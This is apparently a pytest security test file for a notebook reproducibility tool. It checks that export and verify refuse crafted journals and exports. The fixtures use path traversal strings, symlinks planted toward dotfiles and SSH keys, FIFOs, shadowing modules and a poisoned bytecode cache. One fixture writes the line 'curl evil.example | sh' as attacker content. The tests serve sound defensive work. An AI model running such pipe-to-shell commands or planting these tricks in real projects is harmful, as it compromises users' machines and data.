"""A journal or an export folder someone else crafted: every reader and writer stays inside its folder, never
follows a link out of it, never opens a FIFO, never runs code the seal does not cover, never prints the digest
of a file outside the project, and says each refusal in one line.

Journals are crafted the way they arrive in a cloned repository: real records in a real journal
(:class:`~repro_kernel.core.journal.Journal`), real files, real symbolic links, real FIFOs.
"""

from __future__ import annotations

import contextlib
import importlib.util
import json
import os
import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Optional

import nbformat
import pytest

from repro_kernel.core.hashing import hash_file
from repro_kernel.core.journal import Journal
from repro_kernel.exceptions import BadInputError, JournalError
from repro_kernel.export import export_notebook
from repro_kernel.export.manifest import seal
from repro_kernel.export.render import Export
from repro_kernel.export.write import write_export
from repro_kernel.testing import run_cli
from tests.analysis.scenarios import rec

ENV = {"python": {"version": "3.11.0"}, "distributions": {}}
CODE = "text = open('data.txt').read()"


def crafted(project: Path, code: str = "x = 1", **fields: Any) -> Path:
    """A saved notebook whose journal holds one execution of ``code``, its record's fields set to ``fields``."""
    project.mkdir(parents=True, exist_ok=True)
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    cell = nbformat.v4.new_code_cell(code, id="c1")
    cell.execution_count = 1
    nb.cells.append(cell)
    path = project / "nb.ipynb"
    nbformat.write(nb, path)
    with Journal(project / ".repro") as journal:
        journal.begin_session("s1", "nb.ipynb", ENV, 1.0)
        journal.append(rec(1, code, "c1", **fields), "nb.ipynb")
    return path


def read(path: Path, rel: Optional[str]) -> dict[str, Any]:
    """A ``files_read`` entry as the recorder writes it, for the file at ``path`` as it is now."""
    return {"path": str(path), "rel": rel, "size": path.stat().st_size, "mtime": path.stat().st_mtime,
            "hash": hash_file(str(path)), "error": None}


def one_line(result: subprocess.CompletedProcess[str]) -> str:
    assert "Traceback" not in result.stderr, result.stderr[-2000:]
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr[-2000:]
    return lines[0]


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith(".nb.repro."))


# -- export and its files/ bundle -------------------------------------------------------------------------------


def test_bundle_data_refuses_an_input_path_that_climbs_out_of_the_export(tmp_path: Path) -> None:
    clone = tmp_path / "clone"
    project = clone / "a" / "nb"
    payload = clone / "payload"
    clone.mkdir()
    payload.write_text("attacker's content\n")
    notebook = crafted(project, CODE, files_read=[read(payload, "../../payload")])
    result = run_cli("export", str(notebook), "--bundle-data", "--mode", "history")
    assert result.returncode == 2
    assert "../../payload" in one_line(result)
    # Before, files/../../payload landed beside the export folder, in the notebook's folder.
    assert not (project / "payload").exists()
    assert not (project / "nb.repro").exists() and leftovers(project) == []


def test_bundle_data_never_writes_through_a_planted_link_to_a_dotfile(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    dotfile = home / ".bashrc"
    dotfile.write_text("the user's shell setup\n")
    clone = tmp_path / "clone"
    project = clone / "a" / "nb"
    project.mkdir(parents=True)
    (clone / "payload").write_text("curl evil.example | sh\n")
    (project / "payload").symlink_to(dotfile)
    notebook = crafted(project, CODE, files_read=[read(clone / "payload", "../../payload")])
    result = run_cli("export", str(notebook), "--bundle-data", "--mode", "history")
    assert result.returncode == 2 and one_line(result)
    assert dotfile.read_text() == "the user's shell setup\n"


def test_export_writers_refuse_names_that_leave_the_folder(tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    for files, copies in (({"../outside.txt": b"x"}, {}), ({str(outside): b"x"}, {}),
                          ({}, {"files/../../outside.txt": tmp_path / "src"})):
        (tmp_path / "src").write_text("x")
        export = Export(files=dict(files), copies=dict(copies))
        with pytest.raises(BadInputError, match="refusing"):
            write_export(export, tmp_path / "out")
        assert not outside.exists() and not (tmp_path / "out").exists() and leftovers(tmp_path) == []


def test_the_safe_path_helper_resolves_links_and_refuses_what_leaves_its_root(tmp_path: Path) -> None:
    from repro_kernel.core.paths import inside, write_file

    root, elsewhere = tmp_path / "root", tmp_path / "elsewhere"
    root.mkdir()
    elsewhere.mkdir()
    (root / "data").mkdir()
    (root / "out").symlink_to(elsewhere)
    (root / "alias").symlink_to(root / "data")
    assert inside(root, "data/x.csv") == root.resolve() / "data" / "x.csv"
    assert inside(root, "alias/x.csv") == root.resolve() / "data" / "x.csv", "a link inside the root is fine"
    for bad in ("../x", "/etc/passwd", "data/../../x", "out/x", "", "."):
        with pytest.raises(BadInputError) as info:
            inside(root, bad, what="bundled input")
        assert "\n" not in str(info.value) and "refusing bundled input" in str(info.value)
    with pytest.raises(BadInputError):
        write_file(root, "out/planted", b"attacker")
    assert list(elsewhere.iterdir()) == []


def test_export_refuses_a_destination_that_is_a_link(tmp_path: Path) -> None:
    notebook = crafted(tmp_path / "p")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "link").symlink_to(elsewhere)
    result = run_cli("export", str(notebook), "-o", str(tmp_path / "link"), "--force")
    assert result.returncode == 2 and "symbolic link" in one_line(result)
    assert list(elsewhere.iterdir()) == [] and (tmp_path / "link").is_symlink()


def test_force_refuses_an_earlier_export_that_holds_a_link_out(tmp_path: Path) -> None:
    notebook = crafted(tmp_path / "p")
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    folder = export_notebook(notebook)
    (folder / "files").mkdir()
    (folder / "files" / "data.txt").symlink_to(victim)
    result = run_cli("export", str(notebook), "--force")
    assert result.returncode == 2 and "files/data.txt" in one_line(result)
    assert (folder / "files" / "data.txt").is_symlink() and victim.read_text() == "keep me\n"


# -- the snapshot store -------------------------------------------------------------------------------------------


def test_the_snapshot_store_refuses_a_digest_that_is_not_hex(tmp_path: Path) -> None:
    data = tmp_path / "data.csv"
    data.write_text("a,b\n")
    with Journal(tmp_path / ".repro") as journal:
        for digest in (f"blake3:..{tmp_path}/escaped", "blake3:" + "A" * 64, "blake3:" + "0" * 63):
            with pytest.raises(JournalError, match="not a BLAKE3 digest"):
                journal.snapshot_file(data, digest)
    assert not (tmp_path / "escaped").exists()
    assert [p for p in (tmp_path / ".repro" / "objects").rglob("*")] == []


def test_the_object_store_never_writes_through_a_planted_folder_link(tmp_path: Path) -> None:
    data = b'{"source":"python","state":[3,[1,2],null]}'
    from blake3 import blake3

    digest = blake3(data).hexdigest()
    outside = tmp_path / "outside"
    outside.mkdir()
    with Journal(tmp_path / "p" / ".repro") as journal:
        (journal.objects_dir / digest[:2]).symlink_to(outside)
        with pytest.raises(BadInputError, match="outside"):
            journal.put_object(data)
    assert list(outside.iterdir()) == []


def test_bundling_refuses_a_snapshot_that_is_a_link_to_a_private_key(tmp_path: Path) -> None:
    key = tmp_path / "home" / ".ssh" / "id_ed25519"
    key.parent.mkdir(parents=True)
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n")
    project = tmp_path / "p"
    project.mkdir()
    data = project / "data.txt"
    data.write_text("recorded\n")
    entry = read(data, "data.txt")
    notebook = crafted(project, CODE, files_read=[entry])
    with Journal(project / ".repro") as journal:
        stored = journal.snapshot_file(data, entry["hash"])
    stored.unlink()
    stored.symlink_to(key)
    data.write_text("changed since\n")  # so the export takes the snapshot
    result = run_cli("export", str(notebook), "--bundle-data", "--mode", "history")
    assert result.returncode == 2 and one_line(result)
    assert not (project / "nb.repro").exists()


def test_a_random_state_ref_that_is_a_path_is_refused_not_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("password=hunter2\n")
    ref = ".." + str(secret)  # objects/<ref[:2]>/<ref[2:]> was the secret's own absolute path
    notebook = crafted(tmp_path / "p", "import random\nx = random.random()", random={
        "sources": {"python": {"before": "f1", "after": "f2", "state_ref": ref}}, "generators": [], "seeds": [],
        "unseeded_draw": True})
    result = run_cli("export", str(notebook), "--mode", "history")
    assert result.returncode == 2 and "not a BLAKE3 digest" in one_line(result)
    assert not (tmp_path / "p" / "nb.repro").exists()


# -- verify -------------------------------------------------------------------------------------------------------


def bundled_export(tmp_path: Path) -> Path:
    project = tmp_path / "p"
    project.mkdir()
    (project / "data.txt").write_text("recorded\n")
    notebook = crafted(project, CODE, files_read=[read(project / "data.txt", "data.txt")])
    return export_notebook(notebook, mode="history", bundle_data=True)


def test_verify_of_a_bundled_file_replaced_by_a_fifo_answers_in_one_line(tmp_path: Path) -> None:
    folder = bundled_export(tmp_path)
    (folder / "files" / "data.txt").unlink()
    os.mkfifo(folder / "files" / "data.txt")
    try:
        result = run_cli("verify", str(folder), timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail("verify opened the FIFO and hung")
    assert result.returncode == 1 and "a FIFO" in one_line(result)


@pytest.mark.slow
@pytest.mark.parametrize("replacement", ["folder", "socket"])
def test_verify_of_a_bundled_file_replaced_by_something_else_is_changed_data(tmp_path: Path,
                                                                              replacement: str) -> None:
    folder = bundled_export(tmp_path)
    target = folder / "files" / "data.txt"
    target.unlink()
    with contextlib.ExitStack() as stack:
        if replacement == "folder":
            target.mkdir()
        else:
            server = stack.enter_context(socket.socket(socket.AF_UNIX))
            here = os.getcwd()
            os.chdir(target.parent)  # a socket's path is short: bind it by its name
            try:
                server.bind(target.name)
            finally:
                os.chdir(here)
        result = run_cli("verify", str(folder), timeout=60)
    assert result.returncode == 1
    line = one_line(result)
    assert "changed data: data.txt" in line and f"a {replacement}" in line


@pytest.mark.slow
@pytest.mark.skipif(os.geteuid() == 0, reason="root reads a file whatever its mode")
def test_verify_of_an_unreadable_bundled_file_is_one_line(tmp_path: Path) -> None:
    folder = bundled_export(tmp_path)
    (folder / "files" / "data.txt").chmod(0)
    result = run_cli("verify", str(folder), timeout=60)
    assert result.returncode == 2 and "cannot read input data.txt" in one_line(result)


@pytest.mark.slow
def test_verify_refuses_a_bundled_file_that_links_out_of_the_export(tmp_path: Path) -> None:
    folder = bundled_export(tmp_path)
    secret = tmp_path / "secret.txt"
    secret.write_text("recorded\n")  # even with the recorded content: a link out is never followed
    (folder / "files" / "data.txt").unlink()
    (folder / "files" / "data.txt").symlink_to(secret)
    result = run_cli("verify", str(folder), timeout=60)
    assert result.returncode == 2 and "outside" in one_line(result)


def reseal(folder: Path, change: Any) -> None:
    """Edit the manifest as someone crafting an export would, and seal it again (anyone can)."""
    manifest = json.loads((folder / "manifest.json").read_text())
    change(manifest)
    seal(manifest, folder, sorted(manifest["integrity"]["files"]))
    (folder / "manifest.json").write_text(json.dumps(manifest))


@pytest.mark.slow
def test_verify_never_prints_the_digest_of_a_file_outside_the_project(tmp_path: Path) -> None:
    secret = tmp_path / "home" / "id_rsa"
    secret.parent.mkdir()
    secret.write_text("-----BEGIN RSA PRIVATE KEY-----\nsecret\n")
    real = hash_file(str(secret))
    wrong = dict(read(secret, None), hash="blake3:" + "0" * 64)
    notebook = crafted(tmp_path / "p", "key = open('/home/u/.ssh/id_rsa').read()", files_read=[wrong])
    folder = export_notebook(notebook, mode="history")
    result = run_cli("verify", str(folder), timeout=60)
    assert result.returncode == 1
    line = one_line(result)
    assert "id_rsa" in line and "blake3:" + "0" * 64 in line
    assert real not in line and real.split(":")[1][:12] not in line
    # A relative path that climbs out of the working directory is refused outright.
    reseal(folder, lambda m: m["inputs"][0].update(rel="../home/id_rsa", path="../home/id_rsa"))
    result = run_cli("verify", str(folder), timeout=60)
    assert result.returncode == 2 and real not in one_line(result)


@pytest.mark.slow
def test_verify_refuses_a_sealed_file_named_outside_the_export(tmp_path: Path) -> None:
    folder = export_notebook(crafted(tmp_path / "p"), mode="history")
    (tmp_path / "passwd").write_text("root:x:0:0\n")
    reseal(folder, lambda m: m["integrity"]["files"].update({"../../passwd": "0" * 64}))
    result = run_cli("verify", str(folder), timeout=60)
    assert result.returncode == 2 and "outside" in one_line(result)
    import hashlib

    assert hashlib.sha256(b"root:x:0:0\n").hexdigest()[:12] not in result.stderr


@pytest.mark.slow
def test_verify_notebook_leaves_no_temporary_folder_when_its_export_fails(tmp_path: Path) -> None:
    temp = tmp_path / "tmp"
    temp.mkdir()
    broken = tmp_path / "broken.ipynb"
    broken.write_text("{ not json")
    result = run_cli("verify", str(broken), env={"TMPDIR": str(temp)}, timeout=60)
    assert result.returncode == 2 and one_line(result)
    assert list(temp.iterdir()) == []


@contextlib.contextmanager
def read_only(folder: Path) -> Iterator[None]:
    """``folder`` made read-only, for root too (the immutable attribute) where chattr works."""
    folder.chmod(0o555)
    immutable = False
    try:
        if os.geteuid() == 0:
            immutable = shutil.which("chattr") is not None and subprocess.run(
                ["chattr", "+i", str(folder)], capture_output=True).returncode == 0
            if not immutable:
                pytest.skip("root writes anywhere and chattr +i is not available here")
        yield
    finally:
        if immutable:
            subprocess.run(["chattr", "-i", str(folder)], check=True)
        folder.chmod(0o755)


@pytest.mark.slow
def test_export_into_a_read_only_folder_is_one_line(tmp_path: Path) -> None:
    notebook = crafted(tmp_path / "p")
    locked = tmp_path / "locked"
    locked.mkdir()
    with read_only(locked):
        result = run_cli("export", str(notebook), "-o", str(locked / "out"))
    assert result.returncode == 2 and "cannot write the export folder" in one_line(result)
    assert list(locked.iterdir()) == []


# -- code planted in an export ------------------------------------------------------------------------------------


@pytest.mark.slow
def test_verify_refuses_a_planted_module_that_shadows_the_kernel(tmp_path: Path) -> None:
    folder = export_notebook(crafted(tmp_path / "p"), mode="history")
    marker = tmp_path / "planted-code-ran"
    (folder / "ipykernel_launcher.py").write_text(
        f"import pathlib, runpy, sys\npathlib.Path({str(marker)!r}).write_text('ran')\n"
        "sys.path.pop(0)\nrunpy.run_module('ipykernel_launcher', run_name='__main__', alter_sys=True)\n")
    result = run_cli("verify", str(folder), timeout=120)
    assert result.returncode == 2
    assert "ipykernel_launcher.py" in one_line(result)
    assert not marker.exists()


@pytest.mark.slow
def test_verify_refuses_a_planted_package_in_the_bundle(tmp_path: Path) -> None:
    folder = bundled_export(tmp_path)
    (folder / "files" / "numpy").mkdir()
    (folder / "files" / "numpy" / "__init__.py").write_text("raise SystemExit('planted')\n")
    result = run_cli("verify", str(folder), timeout=60)
    assert result.returncode == 2 and "files/numpy/__init__.py" in one_line(result)


@pytest.mark.slow
def test_verify_runs_the_sealed_runtime_never_a_planted_bytecode_cache(tmp_path: Path) -> None:
    folder = export_notebook(crafted(tmp_path / "p"), mode="history")
    marker = tmp_path / "cached-code-ran"
    runtime = folder / "repro_replay.py"
    source = runtime.read_text()
    poisoned = source.replace("RUNTIME_VERSION = 1\n",
                              f"RUNTIME_VERSION = 1\nopen({str(marker)!r}, 'w').write('ran')\n", 1)
    assert poisoned != source
    # A cache that claims to match the sealed source (its mtime and size), as a tarball can carry.
    code = compile(poisoned, str(runtime), "exec")
    st = runtime.stat()
    from importlib._bootstrap_external import _code_to_timestamp_pyc  # type: ignore[attr-defined]

    cache = Path(importlib.util.cache_from_source(str(runtime)))
    cache.parent.mkdir()
    cache.write_bytes(_code_to_timestamp_pyc(code, int(st.st_mtime), st.st_size))
    result = run_cli("verify", str(folder), timeout=180)
    assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-2000:]
    assert not marker.exists(), "verify ran bytecode the seal does not cover"


def test_replay_script_keeps_the_export_folder_off_the_import_path(tmp_path: Path) -> None:
    folder = export_notebook(crafted(tmp_path / "p", "x = 1\nprint('replayed', x)"), mode="history")
    marker = tmp_path / "shadow-ran"
    # The runtime imports base64 (not loaded at start-up): a planted one beside replay.py must not run.
    (folder / "base64.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\nraise ImportError('planted')\n")
    run = subprocess.run([sys.executable, "replay.py"], cwd=folder, capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr[-2000:]
    assert "replayed 1" in run.stdout and not marker.exists()
